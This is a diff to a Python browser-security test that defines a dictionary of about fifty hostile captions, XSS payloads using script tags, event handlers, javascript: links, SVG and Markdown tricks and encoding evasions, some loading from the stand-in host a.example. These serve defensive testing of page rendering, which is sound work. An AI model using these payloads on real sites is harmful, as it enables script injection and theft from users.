@@ -1,4 +1,4 @@
-"""Every page that we write, full of hostile captions, opened in a real browser: nothing runs and nothing is fetched."""
+"""Captions of somebody who wants the reader's browser to do something: set `window.owned`, or fetch from `a.example`."""
 
 import json
 from dataclasses import replace
@@ -23,9 +23,65 @@ from hf_captionrl.hub.push import check_text
 from tests.apps.studies.test_build import pictures, write_study
 from tests.apps.truematch.test_evaluate import COLUMNS, KEY
 from tests.browser import CHROMIUM, Browser
-from tests.hub.test_cards import FACTS, make_results
-from tests.security.hostile import CAPTIONS
+from tests.hub.folders import FACTS, make_results
 from tests.tiny import tiny_captioner, tiny_images
+
+_DO = "window.owned=1"
+_AWAY = "http://a.example"
+
+CAPTIONS = {
+    "script": f"<script>{_DO}</script>",
+    "script from elsewhere": f"<script src={_AWAY}/s.js></script>",
+    "end of script": f"</script><script>{_DO}</script>",
+    "end of script, spaced": f"</script ><script>{_DO}//",
+    "comment in script": f"<!--<script>{_DO}</script>-->",
+    "open comment": f"--><!--<script><script>{_DO}</script>",
+    "end of JSON": f'"}}];{_DO};//',
+    "end of JSON string": f'\\"}}];{_DO};//',
+    "line separator in JSON": f"\u2028{_DO}\u2029//",
+    "template literal": f"`${{{_DO}}}`",
+    "end of style": f"</style><script>{_DO}</script>",
+    "style": f"<style>@import '{_AWAY}/a.css'; *{{background:url({_AWAY}/b)}}</style>",
+    "style attribute": f'" style="background:url({_AWAY}/c)" x="',
+    "end of title": f"</title><script>{_DO}</script>",
+    "end of textarea": f"</textarea></noscript></template><script>{_DO}</script>",
+    "image that fails": f'<img src=x onerror="{_DO}">',
+    "image, unquoted": f"<img/src=x/onerror={_DO}>",
+    "double quote": f'"><img src=x onerror={_DO}>',
+    "single quote": f"'><img src=x onerror={_DO}>",
+    "event in an attribute": f'" autofocus onfocus="{_DO}" tabindex="0" x="',
+    "event, single quote": f"' onmouseover='{_DO}' x='",
+    "svg": f"<svg onload={_DO}>",
+    "svg script": f"<svg><script>{_DO}</script></svg>",
+    "svg animation": f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
+    "math": f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_DO}>",
+    "details": f"<details open ontoggle={_DO}>x</details>",
+    "video": f"<video><source onerror={_DO}></video>",
+    "iframe": f'<iframe srcdoc="<script>parent.{_DO}</script>"></iframe>',
+    "iframe of a script": f'<iframe src="javascript:parent.{_DO}"></iframe>',
+    "object": f'<object data="data:text/html,<script>top.{_DO}</script>"></object>',
+    "link": f'<a href="javascript:{_DO}">click</a>',
+    "link of Markdown": f"[click](javascript:{_DO}) ![p]({_AWAY}/d.png) <javascript:{_DO}>",
+    "image of Markdown": f'![x]({_AWAY}/e.png "t" onerror={_DO})',
+    "reference of Markdown": f"[a]: {_AWAY}/f\n![a]",
+    "code of Markdown": f"`` ` ``` \n<script>{_DO}</script>\n",
+    "table of Markdown": f"| <script>{_DO}</script> |\n|---|\n",
+    "stylesheet": f"<link rel=stylesheet href={_AWAY}/g.css>",
+    "refresh": f'<meta http-equiv=refresh content="0;url={_AWAY}/h">',
+    "base": f"<base href={_AWAY}/>",
+    "form": f"<form action={_AWAY}><input type=submit autofocus></form>",
+    "template of Jinja": f"{{{{ ''.__class__ }}}}{{% set x = 1 %}}<script>{_DO}</script>",
+    "entities": f"&lt;script&gt;{_DO}&lt;/script&gt; &#60;img src=x onerror={_DO}&#62;",
+    "double entities": f"&amp;lt;img src=x onerror={_DO}&amp;gt;",
+    "full-width": f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
+    "right to left": f"\u202e<script>{_DO}</script>\u202c",
+    "zero width": f"<scr\u200bipt>{_DO}</scr\u200bipt>",
+    "null": f"<scr\x00ipt>{_DO}</scr\x00ipt><img src=x one\x00rror={_DO}>",
+    "half a surrogate pair": f"\ud83d<script>{_DO}</script>",
+    "UTF-7": f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
+    "long": "<b>" * 300 + f"<script>{_DO}</script>",
+}
+
 
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
 
